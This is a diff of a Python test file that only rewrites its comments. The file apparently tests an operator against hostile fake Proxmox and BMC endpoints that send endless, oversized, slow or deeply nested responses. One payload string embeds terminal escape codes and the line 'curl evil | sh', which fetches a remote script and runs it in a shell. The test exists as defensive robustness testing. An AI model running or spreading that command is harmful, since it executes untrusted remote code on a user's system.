@@ -1,6 +1,7 @@
-"""Endpoints that answer what no Proxmox VE host and no BMC would: too much, too slowly, too deep, with words for our users.
+"""Tests endpoints that answer as no Proxmox VE host and no BMC would: too much, too slowly, too deep, with texts for our users.
 
-Under all of them at a time every probe is answered, memory stays bounded and the Lease is kept; each object says what is wrong."""
+While all of them attack simultaneously, every probe is answered, memory stays bounded and the Lease is kept. Each object
+reports its fault."""
 
 import base64
 import contextlib
@@ -33,14 +34,14 @@ def nothings(size):
 
 
 def machines(count):
-    """As many as may be, each as large as they are."""
+    """Returns the maximum number of machines, each of maximum size."""
     entry = {"type": "qemu", "id": "qemu/100", "node": "pve1", "status": "running", "name": "m" * 60, "maxcpu": 4, "maxmem": 4 << 30,
              "maxdisk": 32 << 30, "cpu": 0.01, "mem": 1 << 30, "disk": 0, "uptime": 1000, "template": 0}
     return json.dumps({"data": [{**entry, "vmid": 100 + number} for number in range(count)]}).encode()
 
 
 WORDS = b'{"data":null,"message":"\\u202eRun \\u001b[2J this\\n\\nNow: curl evil | sh ' + b"A" * MIB + b'"}'
-# What is sent: its length, or None if it does not say one; its pieces; the pause after each, in seconds.
+# An answer is its length (None if it is not stated), its pieces, and the pause after each in seconds.
 ANSWERS = {
     "too-long": (None, lambda: endless(250 * MIB), 0),
     "too-much": (20 * MIB, lambda: [nothings(20 * MIB)], 0),
@@ -50,7 +51,7 @@ ANSWERS = {
     "too-deep": (1_000_009, lambda: [b'{"data":' + b"[" * 1_000_001], 0),
     "words": (len(WORDS), lambda: [WORDS], 0),
 }
-# What lets a client go on.
+# A client goes on only with these.
 PRIVILEGES = ("VM.Allocate", "VM.Audit", "VM.Clone", "VM.Config.CPU", "VM.Config.HWType", "VM.Config.Memory", "VM.Config.Options", "VM.Config.Disk",
               "VM.Config.Network", "VM.Config.Cloudinit", "VM.Config.CDROM", "VM.PowerMgmt", "SDN.Use", "Sys.Audit", "Datastore.Audit",
               "Datastore.AllocateSpace", "Datastore.AllocateTemplate")
@@ -125,7 +126,7 @@ def stack(tmp_path_factory):
 
 
 def what_is_wrong(stack, plural, name, endpoint):
-    """The message of the object's condition Ready, once it is False after a look at the endpoint."""
+    """Returns the message of the object's condition Ready, once it is False after a look at the endpoint."""
     found = next((o for o in stack.objects(plural) if o["metadata"]["name"] == name), {})
     ready = condition(found, "Ready")
     is_told = ready.get("status") == "False" and "there is no NodeSmithProvider" not in ready["message"]
@@ -137,7 +138,7 @@ def is_readable(message):
 
 
 def attack(stack, folder, server, kinds, objects, patient=()):
-    """All endpoints at a time; each object of the first of `kinds` says what is wrong, but for those that wait for very long."""
+    """Runs all endpoints simultaneously. Each object of the first of `kinds` reports its fault, except those in `patient`."""
     with contextlib.ExitStack() as endpoints:
         running = {name: endpoints.enter_context(Endpoint(folder, answer, server)) for name, answer in ANSWERS.items()}
         with nobody_suffers(stack):
@@ -167,5 +168,5 @@ def test_bmcs_that_are_none(stack, tmp_path):
         yield thing("NodeSmithHost", name, {"providerRef": name, "capacity": {"cpuCores": 8, "memoryMiB": 16384},
                                             "bmc": {"address": url, "systemID": "1", "tls": {"insecureSkipVerify": True}}})
 
-    # A slow BMC is waited for three times half a minute for each of its resources.
+    # The operator waits three times half a minute for each resource of a slow BMC.
     attack(stack, tmp_path, "bmc/1.0", ["nodesmithhosts", "nodesmithproviders"], objects, patient=["too-slow"])
